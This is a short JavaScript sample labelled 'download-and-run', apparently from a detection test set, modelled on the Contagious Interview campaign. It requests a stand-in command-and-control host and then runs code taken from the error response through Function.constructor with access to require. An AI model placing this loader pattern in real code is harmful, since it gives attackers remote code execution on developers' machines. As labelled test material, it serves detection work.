// expect: download-and-run | source: Contagious Interview, public write-ups of 2024 and 2025
const axios = require("axios");
(async () => {
  try {
    await axios.get("https://c2.example.invalid/api/ipcheck");
  } catch (error) {
    new (Function.constructor)("require", error.response.data.token)(require);
  }
})();
